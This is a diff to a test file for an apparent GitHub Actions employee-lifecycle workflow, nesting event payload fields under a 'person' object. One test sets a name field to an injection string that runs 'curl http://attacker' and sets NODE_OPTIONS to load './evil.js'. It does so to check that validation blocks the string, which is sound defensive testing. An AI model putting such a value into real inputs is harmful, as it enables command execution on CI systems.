@@ -9,7 +9,7 @@ const repoRoot = new URL('../..', import.meta.url).pathname
 const sample = (type: string) =>
   JSON.parse(readFileSync(join(repoRoot, 'test/fixtures/events', `${type}.json`), 'utf8')) as {
     action: string
-    client_payload: Record<string, string>
+    client_payload: { event_id: string; occurred_at: string; person: Record<string, string> }
   }
 const PERSONAL = ['jamie.doe@acme.com', 'Jamie Doe', 'riley.manager@acme.com']
 
@@ -110,7 +110,7 @@ describe('lifecycle.yml end to end', () => {
     const { result } = await lifecycle(sandbox, sample('role-change'))
     expect(result.conclusion).toBe('success')
     const record = ledger(sandbox, 'E1042')
-    expect(record.role).toBe(sample('role-change').client_payload.role)
+    expect(record.role).toBe(sample('role-change').client_payload.person.role)
   })
 
   it('refuses an event older than the last one applied', async () => {
@@ -176,7 +176,7 @@ describe('lifecycle.yml when things go wrong', () => {
 
   it('a malicious payload fails validate before any API call, with nothing raw in the logs', async () => {
     const event = sample('onboard')
-    event.client_payload.name = 'Jamie $(curl http://attacker)\nNODE_OPTIONS=--require ./evil.js'
+    event.client_payload.person.name = 'Jamie $(curl http://attacker)\nNODE_OPTIONS=--require ./evil.js'
     const { result, output } = await lifecycle(sandbox, event)
     expect(result.jobs.validate?.result).toBe('failure')
     for (const job of ['identity', 'github', 'aws', 'notify']) expect(result.jobs[job]?.result).toBe('skipped')
